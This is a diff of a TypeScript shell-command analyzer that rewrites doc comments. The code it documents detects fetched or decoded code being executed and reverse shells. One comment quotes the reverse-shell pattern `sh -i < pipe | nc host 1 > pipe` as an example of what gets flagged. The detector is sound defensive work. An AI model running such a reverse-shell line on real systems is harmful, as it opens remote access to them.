@@ -6,7 +6,7 @@ import type { RedirectionScope } from './redirections.ts';
 import { openedUnder, type State } from './state.ts';
 import type { Stream, Word } from './word.ts';
 
-/** What another machine answered is executed. */
+/** The findings for executing text from another machine. */
 export const fetchedCode: readonly Finding[] = [
 	opaque('fetched code: what another machine answers is executed'),
 	{ find: 'trait', trait: 'fetch-to-shell' },
@@ -16,7 +16,7 @@ const fedUnknown = 'it executes what it is fed, which cannot be known';
 
 const decodedCode: readonly Finding[] = [opaque('decoded code: what cannot be read before it is decoded is executed')];
 
-/** What an interpreter that reads its program from its input is fed. */
+/** Returns findings about the input of an interpreter that reads its program from there. */
 export function feedFindings(findings: readonly Finding[], stdin: Stream | undefined): readonly Finding[] {
 	if (!findings.some((finding) => finding.find === 'feed')) return [];
 	if (stdin?.fetched === true) return fetchedCode;
@@ -24,20 +24,22 @@ export function feedFindings(findings: readonly Finding[], stdin: Stream | undef
 	return stdin?.text === undefined ? [opaque(fedUnknown)] : [];
 }
 
-/** `awk -f -`: a script that is read from the input is as good as whoever writes that. */
+/** Returns findings about a script that is read from the input (`awk -f -`), by the origin of the input. */
 export function fedScript(file: Word, stdin: Stream | undefined): readonly Finding[] {
 	if (!/^(-|\/dev\/stdin|\/(dev|proc\/self)\/fd\/0)$/.test(file.text)) return [];
 	return stdin?.fetched === true ? fetchedCode : stdin?.decoded === true ? decodedCode : [];
 }
 
-/** A file that was fetched, or that lies in a folder that was; a number under which something fetched is open. */
+/**
+ * Returns whether a file, or a folder above it, was downloaded. For a file descriptor: whether the open stream came from another machine.
+ */
 export function isFetchedFile(path: string, state: State, { fetchedFiles }: Analysis): boolean {
 	const number = /^\/(?:dev|proc\/self)\/fd\/(.+)$/.exec(path)?.[1];
 	if (number !== undefined) return openedUnder(number, state)?.fetched === true;
 	return fetchedFiles.has(path) || [...fetchedFiles].some((folder) => path.startsWith(`${folder}/`));
 }
 
-/** What is executed and came from another machine, or was decoded. */
+/** Returns findings about executed text that came from another machine or was decoded. */
 export function fetchedFindings(findings: readonly Finding[], state: State, analysis: Analysis): readonly Finding[] {
 	const isFetched = findings.some(
 		(finding) =>
@@ -53,11 +55,11 @@ function isDecodedWord(word: Word): boolean {
 	return word.stream?.decoded === true || (word.decoded === true && !standsAsArgument.test(word.prefix));
 }
 
-/** `echo $(…)`: what is decoded stands where such a program's arguments do. It may still hold a `;`, so it cannot be known. */
+/** In `echo $(…)`, the decoded text is only an argument of a harmless program. It may still contain a `;`, so it stays unknown. */
 const standsAsArgument =
 	/(^|[;&|(\n])\s*(echo|printf|test|\[|ls|cat|head|tail|grep|wc|mkdir|touch|git|npm version)\s[^;&|()<>`$\n]*$/;
 
-/** A file that constant text was written to holds it, for whoever runs it in the same line. */
+/** Notes the constant text that a command wrote to files, for commands in the same line that run them. */
 export function noteWritten(
 	findings: readonly Finding[],
 	{ text, appends = false }: { readonly text?: string | undefined; readonly appends?: boolean },
@@ -71,25 +73,25 @@ export function noteWritten(
 	}
 }
 
-/** Notes what a command writes that matters to those after it. */
+/** Notes the written files that matter to the following commands. */
 export function noteEffects(effects: readonly Effect[], stdin: Stream | undefined, analysis: Analysis): void {
 	noteOdd(effects, analysis);
 	noteFetched(effects, stdin, analysis);
 }
 
-/** Notes files of odd names: what comes later may list them. */
+/** Notes files with unusual names, because later commands may list them. */
 function noteOdd(effects: readonly Effect[], { odd }: Analysis): void {
 	for (const effect of effects)
 		if (effect.kind === 'write' && isOdd(effect.path, 'split') && !/[*?[]/.test(effect.path)) odd.add(effect.path);
 }
 
-/** What a fetching command writes, or one that is fed what was fetched, is another machine's text. */
+/** Marks files as another machine's text if the command contacted a host, or read such text from its input. */
 function noteFetched(effects: readonly Effect[], stdin: Stream | undefined, analysis: Analysis): void {
 	if (stdin?.fetched !== true && !effects.some((effect) => effect.kind === 'network')) return;
 	for (const effect of effects) if (effect.kind === 'write') analysis.fetchedFiles.add(effect.path);
 }
 
-/** A shell whose commands cannot be known, in one pipeline with another machine: `sh -i < pipe | nc host 1 > pipe`. */
+/** Reports an unknown shell in one pipeline with another machine: `sh -i < pipe | nc host 1 > pipe`. */
 export function noteReverseShell(from: number, analysis: Analysis): void {
 	const effects = analysis.parts.slice(from).flatMap((part) => part.effects);
 	const isFed = effects.some((effect) => effect.kind === 'opaque' && effect.why === fedUnknown);
@@ -97,7 +99,7 @@ export function noteReverseShell(from: number, analysis: Analysis): void {
 	if (isFed && isConnected) addOpaque(analysis, '|', 'reverse shell: a shell is connected to another machine');
 }
 
-/** Whether a command shows what another machine answered: it is fed that, holds it, or reads a file of it. */
+/** Returns whether a command shows text from another machine, from its input, its words or a file. */
 export function showsFetched(
 	{ words, stdin, findings }: { words: readonly Word[]; stdin: Stream | undefined; findings: readonly Finding[] },
 	state: State,
@@ -115,7 +117,7 @@ export function showsFetched(
 	);
 }
 
-/** Where the redirections of a command stand. */
+/** Returns the scope for the redirections of a command. */
 export function redirectionScope({ state }: Run, analysis: Analysis): RedirectionScope {
 	const isFetched = (path: string) => isFetchedFile(path, state, analysis);
 	return { facts: analysis.facts, cwd: state.cwd, isFetched };
